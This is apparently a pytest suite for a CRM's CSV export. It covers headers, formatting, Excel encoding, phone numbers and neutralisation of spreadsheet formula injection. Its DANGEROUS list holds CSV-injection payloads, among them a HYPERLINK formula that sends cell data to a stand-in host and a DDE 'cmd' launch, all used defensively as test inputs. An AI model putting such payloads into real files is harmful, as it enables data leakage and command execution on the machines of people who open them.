"""CSV export against real data folders and real files: every table, values another
program reads right, Excel's form, formulas neutralised, phones left alone."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from store.csv_export import (
    EXPORT_TABLES,
    FORMULA_START,
    escape_cell,
    escape_phone,
    export_columns,
    export_csv,
    export_customers,
    format_cell,
)
from store.database import Store
from store.imports import import_csv
from store.models import Activity, Contact, Customer, Lead, Opportunity, Survey, Task, Ticket
from tui.cli import UsageError, build_parser, main

TEAM = ("alice", "bob")
BOM = "\ufeff"
STAMP = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")


def team_config(folder: Path, reps: Sequence[str] = TEAM) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    lines = [f"me: {reps[0]}", "reps:", *(f"  - {{id: {rep}, name: {rep.title()}}}" for rep in reps)]
    (folder / "config.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


@pytest.fixture
def team(folder: Path) -> Iterator[Store]:
    with Store(team_config(folder)) as opened:
        yield opened


def export_text(store: Store, table: str, *, excel: bool = False) -> str:
    out = io.StringIO(newline="")
    export_csv(store, table, out, excel=excel)
    return out.getvalue()


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


def export_file(store: Store, table: str, path: Path, *, excel: bool = False) -> list[dict[str, str]]:
    """Write a real file, read it back with the csv module as another program would."""
    with path.open("w", newline="", encoding="utf-8") as out:
        export_csv(store, table, out, excel=excel)
    with path.open(newline="", encoding="utf-8-sig") as back:
        return list(csv.DictReader(back))


def fill_every_table(store: Store) -> dict[str, str]:
    """One record in each table, linked; returns the ids."""
    customer = store.new(Customer, name="Acme, \"the\" Ltd", phone="+44 20 7946 0958", tags=["vip", "expo"],
                         next_revisit=date(2030, 1, 31), revisit_days=30)
    contact = store.new(Contact, name="Ann Lee", customer_id=customer.id, primary=True, birthday=date(1980, 2, 29))
    lead = store.new(Lead, name="张伟", company="华为", phone="+86 138 0013 8000", grade="A", in_pool=False)
    deal = store.new(Opportunity, title="Big deal", customer_id=customer.id, contact_id=contact.id, stage="quote",
                     amount=Decimal("1234.5"), expected_close=date(2030, 6, 30))
    store.new(Activity, kind="call", customer_id=customer.id, opportunity_id=deal.id, subject="Called",
              at=datetime(2026, 11, 30, 9, 15, tzinfo=UTC))
    ticket = store.new(Ticket, customer_id=customer.id, contact_id=contact.id, title="Broken pump",
                       severity="high")
    store.new(Task, title="Call back", due=date(2030, 2, 1), done=True, customer_id=customer.id,
              ticket_id=ticket.id, done_at=datetime(2026, 11, 30, 10, 15, tzinfo=timezone(timedelta(hours=1))))
    store.new(Survey, customer_id=customer.id, ticket_id=ticket.id, kind="nps", score=9, comment="fine")
    return {"customer": customer.id, "lead": lead.id, "deal": deal.id}


# --- every table -----------------------------------------------------------------------------


def test_every_table_exports_with_a_clean_header(team: Store, tmp_path: Path) -> None:
    fill_every_table(team)
    assert set(EXPORT_TABLES) == {"leads", "opportunities", "customers", "contacts", "activities", "tasks",
                                  "tickets", "surveys"}
    for table in EXPORT_TABLES:
        text = export_text(team, table)
        header = next(csv.reader(io.StringIO(text)))
        assert header == [name for name, _ in export_columns(table)]
        assert header[0] == "id"  # lower case: a file starting "ID" opens in Excel as SYLK
        assert len(set(header)) == len(header) and all(re.fullmatch(r"[a-z_]+", name) for name in header)
        assert not {"_s", "stage_history", "history", "quotes", "changes"} & set(header)
        [row] = export_file(team, table, tmp_path / f"{table}.csv")
        assert row["id"] and STAMP.match(row["created_at"]) and STAMP.match(row["updated_at"])


def test_the_file_reads_back_as_the_stored_values(team: Store, tmp_path: Path) -> None:
    ids = fill_every_table(team)
    [customer] = export_file(team, "customers", tmp_path / "c.csv")
    assert (customer["name"], customer["phone"], customer["tags"]) == ("Acme, \"the\" Ltd", "+44 20 7946 0958",
                                                                       "vip; expo")
    assert (customer["next_revisit"], customer["revisit_days"], customer["lifecycle"]) == ("2030-01-31", "30",
                                                                                          "prospect")
    [lead] = export_file(team, "leads", tmp_path / "l.csv")
    assert (lead["id"], lead["name"], lead["company"], lead["grade"]) == (ids["lead"], "张伟", "华为", "A")
    assert (lead["in_pool"], lead["score"], lead["next_follow_up"], lead["email"]) == ("no", "0", "", "")
    [deal] = export_file(team, "opportunities", tmp_path / "o.csv")
    assert (deal["customer"], deal["contact"], deal["stage"], deal["stage_label"]) == (
        "Acme, \"the\" Ltd", "Ann Lee", "quote", "Quote")
    assert (deal["amount"], deal["currency"], deal["expected_close"]) == ("1234.50", "USD", "2030-06-30")
    [contact] = export_file(team, "contacts", tmp_path / "p.csv")
    assert (contact["customer"], contact["primary"], contact["birthday"]) == ("Acme, \"the\" Ltd", "yes",
                                                                              "1980-02-29")
    [activity] = export_file(team, "activities", tmp_path / "a.csv")
    assert (activity["at"], activity["opportunity"], activity["kind"]) == ("2026-11-30T09:15:00Z", "Big deal",
                                                                          "call")
    [task] = export_file(team, "tasks", tmp_path / "t.csv")
    assert (task["due"], task["done"], task["done_at"], task["ticket"]) == ("2030-02-01", "yes",
                                                                           "2026-11-30T09:15:00Z", "Broken pump")
    [ticket] = export_file(team, "tickets", tmp_path / "k.csv")
    assert (ticket["customer"], ticket["contact"], ticket["severity"], ticket["status"]) == (
        "Acme, \"the\" Ltd", "Ann Lee", "high", "open")
    [survey] = export_file(team, "surveys", tmp_path / "s.csv")
    assert (survey["score"], survey["kind"], survey["ticket"], survey["comment"]) == ("9", "nps", "Broken pump",
                                                                                     "fine")


def test_notes_with_newlines_quotes_and_commas_survive(team: Store, tmp_path: Path) -> None:
    notes = "first line, with a comma\n- second, with \"quotes\"\n\ttabbed 😀"
    team.new(Lead, name="Emma", notes=notes, tags=["a b", "c"])
    for excel in (False, True):
        [row] = export_file(team, "leads", tmp_path / "n.csv", excel=excel)
        assert (row["notes"], row["tags"]) == (notes, "a b; c")


def test_timestamps_are_utc_to_the_second(team: Store) -> None:
    team.new(Lead, name="Ada", last_contacted_at=datetime(2026, 11, 30, 18, 15, 59, 999_999,
                                                            tzinfo=timezone(timedelta(hours=9))))
    [row] = rows_of(export_text(team, "leads"))
    assert row["last_contacted_at"] == "2026-11-30T09:15:59Z"
    assert format_cell(datetime(2026, 11, 30, 9, 15)) == "2026-11-30T09:15:00Z"  # naive: stored times are UTC
    assert format_cell("2026-11-30T09:15:00.5+00:00", "timestamp") == "2026-11-30T09:15:00Z"
    assert format_cell(date(2026, 11, 30)) == "2026-11-30"


@pytest.mark.parametrize(("amount", "shown"), [
    (Decimal("1234.5"), "1234.50"), (Decimal("1234567.89"), "1234567.89"), (Decimal(0), "0.00"),
    (Decimal("1E+3"), "1000.00"), (Decimal("9999999999999999.99"), "9999999999999999.99"), (7, "7.00"),
])
def test_amounts_are_plain_numbers(team: Store, amount: Decimal, shown: str) -> None:
    customer = team.new(Customer, name="Acme")
    team.new(Opportunity, title="Deal", customer_id=customer.id, stage="quote", amount=amount, currency="EUR")
    [row] = rows_of(export_text(team, "opportunities"))
    assert (row["amount"], row["currency"]) == (shown, "EUR")
    assert re.fullmatch(r"\d+\.\d\d", row["amount"])


# --- Excel's form ------------------------------------------------------------------------------


def test_excel_form_has_a_bom_and_crlf_and_the_plain_form_neither(team: Store, tmp_path: Path) -> None:
    team.new(Lead, name="Zoë Ñúñez", company="Müller GmbH")
    team.new(Lead, name="王芳")
    excel, plain = tmp_path / "excel.csv", tmp_path / "plain.csv"
    for path, flag in ((excel, True), (plain, False)):
        with path.open("w", newline="", encoding="utf-8") as out:
            assert export_csv(team, "leads", out, excel=flag) == 2
    data = excel.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    assert data.count(b"\n") == data.count(b"\r\n") == 3
    assert "王芳" in data.decode("utf-8-sig")
    data = plain.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf") and b"\r" not in data and data.count(b"\n") == 3
    assert [r["name"] for r in export_file(team, "leads", excel)] == [r["name"] for r in export_file(
        team, "leads", plain)] == ["Zoë Ñúñez", "王芳"]


# --- formulas ----------------------------------------------------------------------------------

DANGEROUS = ["=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
             "=cmd|' /C calc'!A0", "|cmd", "＝1+1", "＋1+1", "－2+3", "＠SUM(A1)"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_looking_cells_are_neutralised_and_import_back(team: Store, tmp_path: Path, text: str) -> None:
    team.new(Lead, name=text, company=text, notes=text)
    path = tmp_path / "leads.csv"
    [row] = export_file(team, "leads", path, excel=True)
    assert (row["name"], row["company"], row["notes"]) == ("'" + text,) * 3
    with Store(team_config(tmp_path / "other")) as other:
        report = import_csv(other, path, "leads")
        assert report.written == 1, report.problems
        [lead] = other.all(Lead)
        assert (lead.name, lead.company, lead.notes) == (text, text, text)


def test_every_dangerous_start_is_escaped_and_others_are_not() -> None:
    for start in FORMULA_START:
        assert escape_cell(start + "x") == "'" + start + "x"
    for start in ("\t", "\r", "\n", "|", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
        assert start in FORMULA_START
    assert [escape_cell(t) for t in ("a=b", "", "Ｏ'Brien", "1+1", " x", "'quoted")] == [
        "a=b", "", "Ｏ'Brien", "1+1", " x", "'quoted"]
    assert format_cell(["=a", "b"]) == "'=a; b" and format_cell(True) == "yes" and format_cell(None) == ""


# --- phones ------------------------------------------------------------------------------------

KEPT = ["+1 555 0100", "+49 30 1234567", "+44 (20) 7946 0958", "+4930123456", "+86 138.0013.8000",
        "+1 555 0100 99", "030 1234-567", "(030) 1234 567", "555-0100"]
ESCAPED = ["+1-555-0100", "+49 30/1234567", "+1 555 0100 x12", "+1 555 0100-ext12", "-555 0100", "+1.555-0100"]


@pytest.mark.parametrize("phone", KEPT)
def test_phones_are_left_as_they_are(team: Store, tmp_path: Path, phone: str) -> None:
    customer = team.new(Customer, name="Acme", phone=phone)
    team.new(Contact, name="Ann", customer_id=customer.id, phone=phone)
    team.new(Lead, name="Ann", phone=phone, company=phone)
    assert rows_of(export_text(team, "customers"))[0]["phone"] == phone
    assert rows_of(export_text(team, "contacts"))[0]["phone"] == phone
    [lead] = export_file(team, "leads", tmp_path / "l.csv")
    assert lead["phone"] == phone
    assert lead["company"] == escape_cell(phone)  # the exception is for phone columns only
    assert escape_phone(phone) == phone


@pytest.mark.parametrize("phone", ESCAPED)
def test_phones_that_would_compute_or_name_a_cell_are_escaped(team: Store, tmp_path: Path, phone: str) -> None:
    team.new(Lead, name="Ann", phone=phone)
    path = tmp_path / "leads.csv"
    [row] = export_file(team, "leads", path)
    assert row["phone"] == "'" + phone
    with Store(team_config(tmp_path / "other")) as other:
        assert import_csv(other, path, "leads").written == 1
        assert [lead.phone for lead in other.all(Lead)] == [phone]


def test_a_phone_field_that_is_not_a_phone_is_text() -> None:
    """A damaged record's phone is not trusted because of its column."""
    for text in ("+1 555", "=HYPERLINK(\"x\")", "+SUM(1)", "＋1 555 0100", "+ (1)"):
        assert escape_phone(text) == escape_cell(text)


def test_the_segment_export_keeps_phones_and_writes_plain_values(team: Store) -> None:
    from store.customers import customer_rows

    customer = team.new(Customer, name="=Acme", phone="+1 555 0100", tags=["a", "b"])
    team.new(Contact, name="Ann", customer_id=customer.id, phone="+1-555-0199", primary=True)
    rows = customer_rows(team.config, customers=team.rows(Customer), opportunities=team.rows(Opportunity),
                         last_activity={}, tickets=(), surveys=(), today=date(2030, 1, 1),
                         contacts=team.rows(Contact))
    out = io.StringIO(newline="")
    assert export_customers(team, [customer.id], out, facts={r.id: r for r in rows}) == 1
    assert out.getvalue().startswith(BOM) and out.getvalue().endswith("\r\n")
    [row] = rows_of(out.getvalue())
    assert (row["name"], row["phone"], row["contact_phone"]) == ("'=Acme", "+1 555 0100", "'+1-555-0199")
    assert (row["tags"], row["lifetime_value"]) == ("a; b", "0.00")


# --- the command line ---------------------------------------------------------------------------


def test_cli_excel_file_is_private_with_a_bom_and_crlf(folder: Path, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    with Store(team_config(folder)) as store:
        store.new(Lead, name="=1+1", phone="+49 30 1234567")
    out = tmp_path / "leads.csv"
    assert main(["export", "csv", "leads", "--data", str(folder), "--excel", "-o", str(out)]) == 0
    assert out.stat().st_mode & 0o777 == 0o600
    assert capsys.readouterr().err == f"wrote 1 leads to {out}\n"
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,") and data.count(b"\n") == data.count(b"\r\n") == 2
    [row] = rows_of(data.decode("utf-8"))
    assert (row["name"], row["phone"]) == ("'=1+1", "+49 30 1234567")


def test_cli_without_excel_writes_plain_utf8_to_a_file_and_to_stdout(folder: Path, tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    with Store(team_config(folder)) as store:
        store.new(Lead, name="王芳")
    out = tmp_path / "leads.csv"
    assert main(["export", "csv", "leads", "--data", str(folder), "-o", str(out)]) == 0
    assert out.read_bytes().startswith(b"id,") and b"\r" not in out.read_bytes()
    capsys.readouterr()
    assert main(["export", "csv", "leads", "--data", str(folder)]) == 0
    stdout = capsys.readouterr().out
    assert stdout.startswith("id,") and "\r" not in stdout and rows_of(stdout)[0]["name"] == "王芳"
    assert main(["export", "csv", "leads", "--data", str(folder), "--excel"]) == 0
    assert capsys.readouterr().out.startswith(BOM + "id,")


def test_cli_exports_every_table(folder: Path, tmp_path: Path) -> None:
    with Store(team_config(folder)) as store:
        fill_every_table(store)
    parser = build_parser()
    for table in EXPORT_TABLES:
        assert parser.parse_args(["export", "csv", table]).table == table
        out = tmp_path / f"{table}.csv"
        assert main(["export", "csv", table, "--data", str(folder), "--excel", "-o", str(out)]) == 0
        assert len(rows_of(out.read_text(encoding="utf-8"))) == 1
    with pytest.raises(UsageError):
        build_parser().parse_args(["export", "csv", "config"])


# --- moved from test_csvfiles.py ---------------------------------------------------------------


def test_export_neutralises_formulas(team: Store) -> None:
    team.new(Lead, name="=HYPERLINK(\"http://evil\",\"x\")", company="@SUM(A1)", title="-2+3",
             phone="+1 555 0100 99", notes="+cmd", tags=["=tag"])
    assert export_csv(team, "leads", io.StringIO()) == 1
    row = rows_of(export_text(team, "leads"))[0]
    assert row["name"] == "'=HYPERLINK(\"http://evil\",\"x\")"
    assert (row["company"], row["title"], row["phone"]) == ("'@SUM(A1)", "'-2+3", "+1 555 0100 99")
    assert (row["notes"], row["tags"], row["status"]) == ("'+cmd", "'=tag", "new")
    assert [escape_cell(t) for t in ("\tx", "\rx", "a=b", "")] == ["'\tx", "'\rx", "a=b", ""]


def test_export_columns_are_stable_and_leave_out_histories(team: Store) -> None:
    customer = team.new(Customer, name="Acme Ltd")
    contact = team.new(Contact, name="Ann", customer_id=customer.id)
    team.new(Opportunity, title="Big deal", customer_id=customer.id, contact_id=contact.id, stage="quote",
             amount=Decimal("1500.50"), expected_close=date(2030, 6, 30))
    text = export_text(team, "opportunities")
    header = text.splitlines()[0].split(",")
    assert header[:8] == ["id", "owner", "created_at", "updated_at", "title", "customer", "contact", "amount"]
    assert not {"stage_history", "quotes", "changes", "customer_id", "lead_id"} & set(header)
    row = rows_of(text)[0]
    assert (row["customer"], row["contact"]) == ("Acme Ltd", "Ann")
    assert (row["stage"], row["stage_label"]) == ("quote", "Quote")
    assert (row["amount"], row["expected_close"]) == ("1500.50", "2030-06-30")
    assert rows_of(export_text(team, "contacts"))[0]["customer"] == "Acme Ltd"


@pytest.mark.parametrize("excel", [False, True])
def test_leads_round_trip_through_a_csv_file(team: Store, tmp_path: Path, excel: bool) -> None:
    team.new(Lead, name="Emma Clarke", company="Northwind Ltd", email="emma@northwind.example",
             phone="+44 20 7946 0958", grade="A", tags=["expo", "vip"], owner="bob",
             next_follow_up=date(2030, 1, 2), notes="- first line\n- second, with \"quotes\"")
    team.new(Lead, name="张伟", company="华为", phone="138 0013 8000", source="referral", status="contacted",
             grade="C")  # a lead imported without a grade is graded by the importer
    team.new(Lead, name="Bare", phone="+1-555-0100", grade="D")
    path = tmp_path / "leads.csv"
    with path.open("w", newline="", encoding="utf-8") as out:
        assert export_csv(team, "leads", out, excel=excel) == 3
    with Store(team_config(tmp_path / "other")) as other:
        report = import_csv(other, path, "leads")
        assert report.written == 3, report.problems
        fields = ("name", "company", "email", "phone", "grade", "tags", "owner", "status", "source",
                  "next_follow_up", "notes")

        def seen(store: Store) -> set[tuple[object, ...]]:
            return {tuple(str(getattr(lead, f)) for f in fields) for lead in store.all(Lead)}

        assert seen(other) == seen(team)


def test_cli_export_writes_a_file(folder: Path, tmp_path: Path) -> None:
    with Store(team_config(folder)) as store:
        store.new(Lead, name="=1+1")
    out = tmp_path / "out.csv"
    assert main(["export", "csv", "leads", "--data", str(folder), "-o", str(out)]) == 0
    assert rows_of(out.read_text(encoding="utf-8"))[0]["name"] == "'=1+1"


def test_export_writes_left_out_defaults(tmp_path: Path) -> None:
    with Store(tmp_path / "data") as store:
        store.new(Lead, name="Ada")
        text = export_text(store, "leads")
    header, row = text.splitlines()[:2]
    values = dict(zip(header.split(","), row.split(","), strict=True))
    assert values["in_pool"] == "no" and values["score"] == "0" and values["status"] == "new"


def test_a_value_that_starts_with_a_quote_and_a_formula_character_round_trips() -> None:
    from store.imports.columns import unescape

    for value in ("'=x", "=x", "'+49", "'plain", "''=x"):
        assert unescape(escape_cell(value)) == value
